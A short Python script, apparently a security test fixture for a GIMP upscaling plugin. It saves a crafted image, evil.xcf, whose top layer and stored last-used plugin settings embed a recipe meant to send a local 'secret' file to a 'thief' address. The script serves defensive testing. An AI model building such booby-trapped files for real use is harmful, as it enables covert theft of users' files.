# SPDX-License-Identifier: GPL-3.0-or-later
"""Saves evil.xcf, an image as a stranger might pass it on: the upper of its three layers has a recipe that would send the file
`secret` to the address `thief`, the lowest a recipe of the reader's own."""

import hashlib
import os
from pathlib import Path

from gi.repository import Gimp, Gio
from gimp_inside import ARGUMENTS, NONINTERACTIVE, make_image, tell
from stranger import OWN_RECIPE, attach, format_last_values, make_recipe, set_recipe

LAST_VALUES = ("GimpProcedureConfigRun-plug-in-tile-upscale-last", "GimpProcedureConfig-plug-in-tile-upscale-last")

thief, secret = ARGUMENTS["thief"], Path(ARGUMENTS["secret"])
image, source = make_image(150, 110)
made, own = source.copy(), source.copy()
image.insert_layer(made, None, 0)
image.insert_layer(own, None, 2)
set_recipe(made, source, **make_recipe(thief, secret.as_uri()))
set_recipe(own, source, **OWN_RECIPE, **{"ip-adapter-image-sha256": hashlib.sha256(secret.read_bytes()).hexdigest()})
for name in LAST_VALUES:
    attach(image, name, format_last_values(thief, secret.as_uri()))
tell(made=Gimp.file_save(NONINTERACTIVE, image, Gio.File.new_for_path(os.path.join(os.getcwd(), "evil.xcf")), None))
